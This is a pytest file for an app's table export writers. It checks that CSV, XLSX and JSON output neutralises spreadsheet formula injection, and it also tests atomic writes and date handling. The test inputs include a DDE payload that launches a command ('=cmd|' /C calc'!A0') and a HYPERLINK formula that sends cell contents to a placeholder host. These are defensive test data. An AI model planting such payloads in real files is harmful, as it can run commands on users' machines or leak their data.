"""The generic writers: any table gets the same spreadsheet safety, atomic writes, progress."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime

import openpyxl
import pytest

from consult.exports.writers import (
    Table,
    csv_text,
    excel_moment,
    neutralise,
    neutralise_cell,
    write_table,
    write_xlsx,
)


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+33", "'+33"),
        ("-x", "'-x"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r'=1+1"),  # the carriage return may also begin a cell
        ("\n-1", "'\n'-1"),
        (" =1+1", "' =1+1"),
        ("\u3000=1+1", "'\u3000=1+1"),
        ("\x00=1+1", "'\x00=1+1"),
        ("\x85=1+1", "'\x85=1+1"),
        ("\u200b=1+1", "'\u200b=1+1"),
        ("\ufeff=1+1", "'\ufeff=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # ＝
        ("\uff0b1", "'\uff0b1"),  # ＋
        ("\uff0d1", "'\uff0d1"),  # －
        ("\uff20SUM(1)", "'\uff20SUM(1)"),  # ＠
        ("\u22121", "'\u22121"),  # − minus sign
        (
            '=HYPERLINK("http://x.example/?"&A1,"clic")',
            '\'=HYPERLINK("http://x.example/?"&A1,"clic")',
        ),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        # Split on ; by French and Spanish spreadsheet settings: each piece is a cell there.
        ("ok;=1+1", "ok;'=1+1"),
        ("ok; =1+1;+2", "ok;' =1+1;'+2"),
        ("ok;fine", "ok;fine"),
        (";@SUM(1)", ";'@SUM(1)"),
        # A line break begins a cell once a spreadsheet lost track of the quotes.
        ("line\n=1+1", "line\n'=1+1"),
        ("line\r\n-1", "line\r\n'-1"),
        ("line\r=1", "line\r'=1"),
        ("=1;=2", "'=1;'=2"),
        ("a=b", "a=b"),
        ("a-b; c+d", "a-b; c+d"),
        ("e-mail: x@example.org", "e-mail: x@example.org"),
        ("", ""),
        ("'quoted", "'quoted"),
        ("  indented text", "  indented text"),
    ],
)
def test_neutralise(text, safe):
    assert neutralise(text) == safe
    assert neutralise(safe) == safe  # idempotent: a neutralised text stays as it is


@pytest.mark.parametrize(
    ("value", "is_number", "safe"),
    [("-5", True, "-5"), ("-5.5", True, "-5.5"), ("-5", False, "'-5"), ("-5+1", True, "'-5+1")],
)
def test_a_plain_number_in_a_numeric_column_stays(value, is_number, safe):
    assert neutralise_cell(value, is_number) == safe


def test_csv_quotes_every_text_field_so_that_semicolons_stay_inside(tmp_path):
    table = Table(
        columns=["n", "text"],
        rows=[[1, "un; deux, trois"]],
        codebook_header=["column"],
        codebook=[],
        numeric=frozenset({0}),
    )
    write_table("csv", table, tmp_path / "t.csv")
    lines = (tmp_path / "t.csv").read_text(encoding="utf-8-sig").splitlines()
    assert lines == ['"n","text"', '1,"un; deux, trois"']
    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as handle:
        assert list(csv.reader(handle, delimiter=";"))[1][0] == '1,"un'  # a ; reader splits


def test_csv_text_is_the_same_writer():
    text = csv_text(["a", "b"], [[1, "=1+1"], [2, None]])
    assert text == '\ufeff"a","b"\r\n1,"\'=1+1"\r\n2,""\r\n'


def _plain_table() -> Table:
    """A table whose rows the writers must neutralise themselves (is_neutralised False)."""
    return Table(
        columns=["number", "article", "text", "published_at"],
        rows=[
            [1, "art01", "=cmd|' /C calc'!A0", "2022-02-01T10:00:00Z"],
            [2, "art10", "Vivienda digna 🏠\nsegunda línea", None],
        ],
        codebook_header=["column", "label_en"],
        codebook=[["number", "=not a formula either"]],
        numeric=frozenset({0}),
        sheet_name="things",
    )


def test_any_table_is_written_safely_in_every_format(tmp_path):
    csv_rows = None
    for fmt in ("csv", "xlsx", "json"):
        path = tmp_path / f"things.{fmt}"
        assert write_table(fmt, _plain_table(), path) == 2
        if fmt == "csv":
            with open(path, encoding="utf-8-sig", newline="") as handle:
                csv_rows = list(csv.reader(handle))
            codebook = (tmp_path / "things.codebook.csv").read_text(encoding="utf-8-sig")
            assert "'=not a formula either" in codebook
        elif fmt == "xlsx":
            book = openpyxl.load_workbook(path)
            sheet = book["things"]
            # A string cell is never evaluated: the exact text, no apostrophe.
            assert sheet["C2"].value == "=cmd|' /C calc'!A0" and sheet["C2"].data_type == "s"
            assert book["codebook"]["B2"].value == "=not a formula either"
            assert sheet["A2"].value == 1 and sheet["A2"].data_type == "n"
            assert "codebook" in book.sheetnames
        else:
            rows = json.loads(path.read_text(encoding="utf-8"))["rows"]
            assert rows[0]["text"] == "=cmd|' /C calc'!A0"
            assert rows[1]["text"] == "Vivienda digna 🏠\nsegunda línea"
            assert rows[1]["published_at"] is None
    assert csv_rows[0] == ["number", "article", "text", "published_at"]
    assert csv_rows[1][2] == "'=cmd|' /C calc'!A0"
    assert csv_rows[2][2] == "Vivienda digna 🏠\nsegunda línea"


def test_a_failed_write_leaves_no_file(tmp_path):
    def rows():
        yield ["a"]
        raise RuntimeError("database went away")

    table = Table(columns=["x"], rows=rows(), codebook_header=["column"], codebook=[])
    with pytest.raises(RuntimeError):
        write_table("csv", table, tmp_path / "out.csv")
    assert list(tmp_path.iterdir()) == []


def test_progress_is_reported_per_response(app, tmp_path):
    from consult.db import db
    from consult.exports.responses import ResponsesExport, export_responses
    from consult.staff.exporting import region_labels
    from tests.exports.conftest import store_responses

    stored = store_responses(app, per_questionnaire=3)
    ticks: list[int] = []
    with app.app_context(), db.engine.connect() as connection:
        for long in (False, True):
            ticks.clear()
            summary = export_responses(
                connection,
                ResponsesExport(fmt="csv", long=long),
                tmp_path / f"r{long}.csv",
                region_labels=region_labels(app),
                progress=ticks.append,
                chunk_size=2,
            )
            assert sum(ticks) == summary.responses == len(stored.submitted)


@pytest.mark.parametrize(
    ("value", "moment"),
    [
        ("2022-02-22T17:00:00Z", datetime(2022, 2, 22, 17, 0)),
        ("2022-02-22T18:00:00+01:00", datetime(2022, 2, 22, 17, 0)),
        ("2022-02-22T17:00:00", datetime(2022, 2, 22, 17, 0)),
        (datetime(2022, 2, 22, 17, 0, tzinfo=UTC), datetime(2022, 2, 22, 17, 0)),
        ("not a date", None),
        ("=1+1", None),
    ],
)
def test_excel_moment(value, moment):
    assert excel_moment(value) == moment


def test_xlsx_dates_are_real_dates_and_other_text_stays_text(tmp_path):
    table = Table(
        columns=["id", "when", "note"],
        rows=[[1, "2022-02-22T17:00:00Z", "2022-02-22T17:00:00Z"], [2, "", "x"]],
        codebook_header=["column"],
        codebook=[["id"]],
        numeric=frozenset({0}),
        dates=frozenset({1}),
    )
    write_xlsx(table, tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx")["data"]
    assert sheet["B2"].value == datetime(2022, 2, 22, 17, 0) and sheet["B2"].is_date
    assert sheet["B2"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert sheet["C2"].value == "2022-02-22T17:00:00Z"  # not a date column: text
    assert sheet["A2"].value == 1 and sheet["B3"].value is None
